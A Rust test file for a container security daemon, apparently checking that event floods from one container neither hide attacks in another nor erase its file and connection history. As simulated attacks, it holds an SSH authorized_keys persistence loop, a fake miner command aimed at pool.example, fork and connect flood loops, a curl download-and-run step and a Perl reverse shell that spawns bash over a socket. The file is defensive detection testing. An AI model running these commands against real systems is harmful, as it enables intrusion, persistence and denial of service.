//! One container floods, another is attacked: every attack is found, and what is lost is the flooder's.

use crate::container::{Container, Group, wait};
use crate::daemon::{Daemon, Settings, is_alert};
use crate::lab::Peer;
use anyhow::{Context, Result, bail, ensure};
use rustix::process::Signal;
use serde_json::Value;
use std::collections::HashSet;
use std::fs;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Attacks in `monitor`, where both rings can be flooded, and in `protect`, where a forbidden act is the last of
/// its process.
const ATTACKS: [(&str, usize); 2] = [("monitor", 1000), ("protect", 100)];
/// Records for either ring as fast as they can be made: connects, forbidden writes, forks and program starts.
const FLOODS: [&str; 3] = [
    "exec perl -MSocket -e 'socket(S,PF_INET,SOCK_DGRAM,0); $a=pack_sockaddr_in(9,inet_aton(\"127.0.0.1\")); connect(S,$a) while 1'",
    "mkdir -p /tmp/.ssh; while :; do (while :; do : > /tmp/.ssh/authorized_keys; done); done",
    "while :; do (:) & (:) & /bin/true; wait; done",
];
/// In turn a key, which the kernel half judges, and what looks like a miner, which the daemon judges by two
/// ordinary events, its start and its connect. Each in a process tree of its own, so that each is an incident of its own.
const ATTACK: &str = r#"
i=0
while [ $i -lt @COUNT@ ]; do
    (enter; exec sh -c 'echo attacker > /tmp/keys-$1/.ssh/authorized_keys' sh $i) &
    wait $!
    i=$((i+1))
    (enter; exec bash -c ': <>/dev/udp/127.0.0.1/3333' miner --algo=rx/0 -o stratum+tcp://pool.example:3333 -u attack-$i) &
    wait $!
    i=$((i+1))
done
"#;
/// How long the daemon is held up at first, and at most, until the flooder has filled its share of the rings: that
/// depends on how fast it is here.
const PAUSES: [Duration; 2] = [Duration::from_millis(300), Duration::from_secs(20)];
/// The daemon counts what was lost once a second.
const COUNTED: Duration = Duration::from_millis(1300);
/// Longest time for all attacks of a mode (20 s on two idle processors), and then for the last rows.
const ATTACKING: Duration = Duration::from_secs(240);
const SETTLE: Duration = Duration::from_secs(30);

/// See the module.
pub fn flood_costs_only_the_flooder() -> Result<()> {
    ATTACKS.iter().try_for_each(|(mode, count)| under_flood(mode, *count).context(*mode))
}

fn under_flood(mode: &'static str, count: usize) -> Result<()> {
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings::mode(mode))?;
    let (flooder, attacked) = (Container::start(&group)?, Container::start(&group)?);
    attacked.run(&format!("seq 0 {count} | sed 's,.*,/tmp/keys-&/.ssh,' | xargs mkdir -p"))?;
    // Less processor time than the attacks, or on two processors these would take minutes.
    let flood = |script: &&str| flooder.spawn(&format!("renice -n 5 -p $$ > /dev/null; {script}"));
    let mut floods = FLOODS.iter().map(flood).collect::<Result<Vec<_>>>()?;
    let pause = filling(&daemon, PAUSES[0])?;
    let begun = Instant::now();
    let attacks = attacked.spawn_beside(&ATTACK.replace("@COUNT@", &count.to_string()))?;
    filling(&daemon, 2 * pause)?;
    let ended = wait(attacks, ATTACKING)?;
    let attacking = begun.elapsed();
    let flooding = floods.iter_mut().all(|flood| matches!(flood.try_wait(), Ok(None)));
    let found = settled(&daemon, attacked.id(), count);
    let status = daemon.status()?;
    let rows = daemon.rows();
    let (by_flooder, by_attacked) = (lost(&rows, flooder.id()), lost(&rows, attacked.id()));
    let told = |container: &Container| rows.iter().filter(|row| is_alert(row, "event_loss", container.id())).count();
    let alerts = (told(&flooder), told(&attacked));
    drop(flooder);
    floods.iter_mut().try_for_each(|flood| flood.wait().map(drop))?;
    eprintln!(
        "flood, {mode}: {count} attacks in {attacking:.1?}, {} found, the slowest after {:.1} s; {} events received; lost: {by_flooder} by the flooder, {by_attacked} by the attacked",
        found.len(),
        slowest_us(&rows, attacked.id()) as f64 / 1e6,
        status["events_received"]
    );
    ensure!(ended.success() && flooding, "the attacks ended with {ended}; still flooding: {flooding}");
    ensure!(by_attacked == 0, "{by_attacked} events of the attacked container were lost");
    ensure!(found.len() == count, "{} of {count} attacks were found", found.len());
    ensure!(by_flooder > 0, "the flooder lost nothing: this was no flood");
    ensure!(alerts == (1, 0), "{} alerts of the flooder's loss, {} of the attacked one's", alerts.0, alerts.1);
    let written = (0..count).step_by(2).filter(|i| key_is_written(&attacked, *i)).count();
    let expected = if mode == "protect" { 0 } else { count / 2 };
    ensure!(written == expected, "{written} keys were written, {expected} expected");
    Ok(())
}

/// Attacks found, once they are all there or no more come.
fn settled(daemon: &Daemon, container: &str, count: usize) -> HashSet<String> {
    let deadline = Instant::now() + SETTLE;
    loop {
        let found = found(&daemon.rows(), container);
        if found.len() >= count || Instant::now() > deadline {
            return found;
        }
        std::thread::sleep(Duration::from_secs(1));
    }
}

/// How long the daemon has to be held up, `pause` or longer, until the flooder loses events.
fn filling(daemon: &Daemon, mut pause: Duration) -> Result<Duration> {
    let longest = PAUSES[1];
    while pause <= longest {
        let before = events_lost(daemon)?;
        hold_up(daemon, pause)?;
        std::thread::sleep(COUNTED);
        if events_lost(daemon)? > before {
            return Ok(pause);
        }
        pause *= 2;
    }
    bail!("{longest:?} of flooding do not fill the flooder's share of the rings")
}

/// However fast the daemon reads, now it does not.
fn hold_up(daemon: &Daemon, pause: Duration) -> Result<()> {
    daemon.signal(Signal::STOP)?;
    std::thread::sleep(pause);
    daemon.signal(Signal::CONT)
}

fn events_lost(daemon: &Daemon) -> Result<u64> {
    daemon.status()?["events_lost"].as_u64().context("status has no events_lost")
}

/// Attacks that are told of, by what makes each of them distinct.
fn found(rows: &[Arc<Value>], container: &str) -> HashSet<String> {
    let key = |row: &Value| row["file"]["path"].as_str().map(str::to_owned);
    let miner = |row: &Value| row["process"]["args"].as_array()?.last()?.as_str().map(str::to_owned);
    let distinct = |row: &Value| {
        if is_alert(row, "persistence_ssh_key", container) {
            key(row)
        } else if is_alert(row, "miner", container) {
            miner(row)
        } else {
            None
        }
    };
    rows.iter().filter_map(|row| distinct(row)).collect()
}

/// Longest time from an attack to its alert.
fn slowest_us(rows: &[Arc<Value>], container: &str) -> u64 {
    let its = rows.iter().filter(|row| row["container"]["id"] == container);
    its.filter_map(|row| row["bulkhead"]["latency_us"].as_u64()).max().unwrap_or(0)
}

/// Events of a container that were told as lost.
fn lost(rows: &[Arc<Value>], container: &str) -> u64 {
    let told = |row: &&Arc<Value>| {
        row["event"]["action"] == "event_loss" && row["bulkhead"]["details"]["container"] == container
    };
    rows.iter().filter(told).filter_map(|row| row["bulkhead"]["details"]["lost"].as_u64()).sum()
}

fn key_is_written(container: &Container, number: usize) -> bool {
    let path: PathBuf = container.path(&format!("/tmp/keys-{number}/.ssh/authorized_keys"));
    fs::read(path).is_ok_and(|content| !content.is_empty())
}

/// More than the tables of marks hold: files written by a process with a connection, and connections.
const MARKS: &str = r#"
use Socket;
my $a = pack_sockaddr_in(9, inet_aton("127.0.0.1"));
for my $i (1..40000) { socket(S, PF_INET, SOCK_DGRAM, 0) and connect(S, $a) or die; }
mkdir "/tmp/marks";
for my $i (1..40000) { open(F, ">", "/tmp/marks/$i") or die; }
"#;
/// Connects, and is a shell on that connection only when it is told to go on.
const PATIENT: &str = r#"
use Socket;
socket(S, PF_INET, SOCK_STREAM, 0);
connect(S, pack_sockaddr_in(@PORT@, inet_aton("127.0.0.1"))) or die;
open(F, ">", "/tmp/connected"); close(F);
select(undef, undef, undef, 0.05) until -e "/tmp/go-on";
open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec "/bin/bash", "-i";
"#;

/// What is known of a container's files and connections is not forgotten because another makes tens of thousands
/// of them; nor are the latest of its own.
pub fn marks_survive_a_flood_of_marks() -> Result<()> {
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings::mode("protect"))?;
    let (flooder, attacked) = (Container::start(&group)?, Container::start(&group)?);
    let download = |container: &Container| -> Result<()> {
        let web = Peer::web(container.listen()?, "#!/bin/sh\ntouch /tmp/ran\n")?;
        container.run(&format!("curl -s -o /tmp/x.sh http://127.0.0.1:{}/x.sh", web.port)).map(drop)
    };
    download(&attacked)?;
    let peer = Peer::shell(attacked.listen()?, "touch /tmp/effect\nexit\n", Duration::from_secs(40))?;
    fs::write(attacked.path("/tmp/patient.pl"), PATIENT.replace("@PORT@", &peer.port.to_string()))?;
    let mut patient = attacked.spawn("exec perl /tmp/patient.pl")?;
    ensure!(attacked.run("until [ -e /tmp/connected ]; do sleep 0.05; done")?.success(), "no connection");

    fs::write(flooder.path("/tmp/marks.pl"), MARKS)?;
    let flood = wait(flooder.spawn("ulimit -n 65536; exec perl /tmp/marks.pl")?, ATTACKING)?;
    ensure!(flood.success(), "the flood ended with {flood}");
    download(&flooder)?;

    for container in [&attacked, &flooder] {
        container.run("sh /tmp/x.sh")?;
        ensure!(!container.path("/tmp/ran").exists(), "what was downloaded ran in {}", container.id());
        daemon.await_alert("download_exec", container.id())?;
    }
    fs::write(attacked.path("/tmp/go-on"), "")?;
    patient.wait()?;
    ensure!(!attacked.path("/tmp/effect").exists() && peer.received() == 0, "the shell ran");
    daemon.await_alert("reverse_shell", attacked.id()).map(drop)
}
